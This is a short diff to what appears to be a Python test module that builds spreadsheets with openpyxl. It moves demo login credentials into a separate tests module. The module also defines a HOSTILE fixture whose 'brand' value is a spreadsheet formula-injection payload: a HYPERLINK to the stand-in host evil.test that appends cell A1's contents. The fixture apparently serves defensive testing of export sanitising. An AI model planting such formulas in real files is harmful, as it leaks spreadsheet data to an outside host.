@@ -17,7 +17,9 @@ from datetime import datetime, timedelta, timezone
 import openpyxl
 import requests
 
-DEMO = {"consumer_type": "individual", "login": "11223344595", "password": "demo-Password-2026"}
+from tests import demo
+
+DEMO = {"consumer_type": "individual", "login": demo.SNILS, "password": demo.PASSWORD}
 MSK = timezone(timedelta(hours=3))
 HOSTILE = {
     "brand": '=HYPERLINK("http://evil.test/?"&A1,"Открыть")',
